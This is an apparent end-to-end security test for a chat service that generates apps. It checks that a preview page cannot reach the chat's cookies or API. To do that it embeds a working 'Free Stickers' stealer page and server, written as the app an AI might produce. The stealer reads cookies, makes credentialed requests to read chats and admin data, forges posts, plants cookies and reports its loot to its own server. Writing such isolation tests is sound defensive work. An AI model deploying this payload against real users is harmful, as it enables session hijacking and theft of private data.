import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FakeAnthropic, finish, message, nodeApp, writeFile } from '../fakes/anthropic/server.js';
import { startTestApp, type TestApp, until } from '../helpers/app.js';
import { ARTIFACTS, launchBrowser } from '../helpers/browser.js';
import { fetchPreview } from '../helpers/preview.js';

const ADMIN_TOKEN = 'admin-token-preview-isolation-0123';

/**
 * The app Claude could write to steal a person's chat session: its server notes every cookie
 * the browser sends it, and its page tries to read the chat's and the admin's cookies, to call
 * the chat API with the person's credentials (to read their chat, to post in their name), and
 * to plant cookies of its own for the chat's host. It reports what it got to its own server.
 */
function stealerServer(chat: string, neighbour: string): string {
  const page = `<!doctype html><meta charset="utf-8"><title>Free Stickers</title><h1>Free Stickers</h1>
<script>
(async () => {
  const CHAT = ${JSON.stringify(chat)};
  const out = { cookies: document.cookie };
  const attempt = async (name, fn) => {
    try { out[name] = 'got: ' + (await fn()); } catch (e) { out[name] = 'blocked: ' + e.name; }
  };
  // Controls: another server on the chat's host answers this page (so a refusal below is the
  // chat's policy, not a dead network), and the app's own cookies do reach its own server.
  await attempt('reachNeighbour', async () => (await fetch(${JSON.stringify(neighbour)} + '/ping', { credentials: 'include' })).text());
  document.cookie = 'own=mine; path=/';
  await attempt('ownCookie', async () => (await fetch('/own')).status);
  await attempt('readMe', async () => (await fetch(CHAT + '/api/web/me', { credentials: 'include' })).text());
  await attempt('readMessages', async () => (await fetch(CHAT + '/api/web/messages', { credentials: 'include' })).text());
  await attempt('readAdmin', async () => (await fetch(CHAT + '/admin/api/overview', { credentials: 'include' })).text());
  await attempt('postJson', async () => (await fetch(CHAT + '/api/web/messages', {
    method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ text: '/spawn hijacked-json', clientId: 'stealerjson01' }),
  })).status);
  await attempt('postSimple', async () => (await fetch(CHAT + '/api/web/messages', {
    method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': 'text/plain' },
    body: JSON.stringify({ text: '/spawn hijacked-simple', clientId: 'stealersimple1' }),
  })).type);
  document.cookie = 'spawnai_uid=planted-by-preview; domain=localhost; path=/';
  document.cookie = 'spawnai_admin=planted-by-preview; domain=localhost; path=/admin';
  out.cookiesAfterPlanting = document.cookie;
  await fetch('/report', { method: 'POST', body: JSON.stringify(out) });
})();
</script>`;
  return `const http = require('node:http');
const PORT = Number(process.env.PORT) || 3000;
const PAGE = ${JSON.stringify(page)};
const seen = [];
let report = null;
http
  .createServer((req, res) => {
    seen.push(req.headers.cookie || '');
    if (req.url === '/report' && req.method === 'POST') {
      let body = '';
      req.on('data', (c) => { body += c; });
      req.on('end', () => { report = body; res.end('thanks'); });
      return;
    }
    if (req.url === '/loot') {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ seen, report: report && JSON.parse(report) }));
      return;
    }
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(PAGE);
  })
  .listen(PORT);
`;
}

interface Loot {
  readonly seen: readonly string[];
  readonly report: Record<string, string> | null;
}

describe('a preview page in Chromium', () => {
  let fake: FakeAnthropic;
  let t: TestApp;
  let browser: Browser;
  let chat: string;
  /** A server of the chat's host on another port, as previews used to be: it answers anyone. */
  let neighbourServer: http.Server;
  let neighbour: string;
  const neighbourCookies: string[] = [];

  beforeAll(async () => {
    fake = await new FakeAnthropic().start();
    t = await startTestApp({ ANTHROPIC_API_KEY: 'test-key', ANTHROPIC_BASE_URL: fake.url, ADMIN_TOKEN });
    // The chat as people open it: on localhost, the host whose cookies previews used to share.
    chat = `http://localhost:${new URL(t.url).port}`;
    neighbourServer = http.createServer((req, res) => {
      neighbourCookies.push(req.headers.cookie ?? '');
      res.writeHead(200, {
        'access-control-allow-origin': req.headers.origin ?? '*',
        'access-control-allow-credentials': 'true',
      });
      res.end('pong');
    });
    await new Promise<void>((r) => neighbourServer.listen(0, '127.0.0.1', r));
    neighbour = `http://localhost:${(neighbourServer.address() as AddressInfo).port}`;
    browser = await launchBrowser();
  }, 60_000);
  afterAll(async () => {
    await new Promise((r) => neighbourServer?.close(r));
    await browser?.close();
    await t?.stop();
    await fake?.stop();
  });

  it('cannot read the chat or admin cookies, nor use the chat API with the person’s credentials', async () => {
    fake.reset();
    fake.script(
      message([
        writeFile('package.json', nodeApp('Free Stickers')[0]!.content),
        writeFile('server.js', stealerServer(chat, neighbour)),
      ]),
      message([finish('Free Stickers', 'Stickers for everyone.')]),
    );
    const context = await browser.newContext();
    const admin = await context.newPage();
    await admin.goto(`${chat}/admin/login`);
    await admin.fill('#token', ADMIN_TOKEN);
    await Promise.all([admin.waitForURL(`${chat}/admin`), admin.click('#sign-in')]);
    const cookies = (await context.cookies()).map((c) => `${c.name}@${c.domain}${c.path}`).sort();
    expect(cookies).toEqual(['spawnai_admin@localhost/admin']);

    const page = await context.newPage();
    await page.goto(`${chat}/`);
    const me = async () =>
      page.evaluate(async () => (await (await fetch('/api/web/me')).json()) as { userId: string });
    const person = (await me()).userId;
    await page.fill('#prompt', 'a page giving away free stickers');
    await page.click('#send');
    const link = page.locator('li.card.success .buttons a.preview-link').first();
    await link.waitFor({ timeout: 40_000 });
    const previewUrl = (await link.getAttribute('href'))!;
    expect(new URL(previewUrl).hostname).toMatch(/^[a-z0-9]+\.localhost$/);

    const [preview] = await Promise.all([context.waitForEvent('page'), link.click()]);
    await preview.waitForLoadState();
    const loot = await until('the page reported', async () => {
      const res = await fetchPreview(`${previewUrl}/loot`);
      const body = (await res.json()) as Loot;
      return body.report ? body : undefined;
    });
    await preview.screenshot({ path: path.join(ARTIFACTS, 'preview-isolation.png') });

    // Nothing of the chat's or the admin's cookies reached the app, in its page or its server.
    const everything = JSON.stringify(loot);
    expect(everything).not.toContain('spawnai_uid=');
    expect(everything).not.toMatch(/spawnai_admin=(?!planted)/);
    expect(loot.seen.every((c) => !c.includes('spawnai_'))).toBe(true);
    const report = loot.report!;
    expect(report.reachNeighbour).toBe('got: pong');
    // A server on the chat's host but another port got no cookie of the chat either (SameSite).
    expect(neighbourCookies.length).toBeGreaterThan(0);
    expect(neighbourCookies.every((c) => !c.includes('spawnai_'))).toBe(true);
    expect(loot.seen).toContain('own=mine');
    for (const read of ['readMe', 'readMessages', 'readAdmin', 'postJson']) {
      expect(report[read], read).toMatch(/^blocked/);
    }
    // The browser refuses a cookie for the chat's host from an app's host.
    expect(report.cookiesAfterPlanting).not.toContain('planted');

    // The person's chat and identity are untouched: nothing was posted in their name, no
    // planted cookie took the place of theirs, and the admin session still works.
    await page.reload();
    expect((await me()).userId).toBe(person);
    const history = await page.evaluate(async () =>
      JSON.stringify(await (await fetch('/api/web/messages')).json()),
    );
    expect(history).not.toContain('hijacked');
    const identity = await t.app.repos.users.findIdentity('web', '', person);
    expect(await t.app.repos.sessions.listByUser(identity!.userId, { limit: 10 })).toHaveLength(1);
    await admin.reload();
    expect(await admin.evaluate(async () => (await fetch('/admin/api/overview')).status)).toBe(200);
    for (const cookie of await context.cookies(chat)) expect(cookie.value).not.toBe('planted-by-preview');
    await context.close();
  }, 120_000);
});
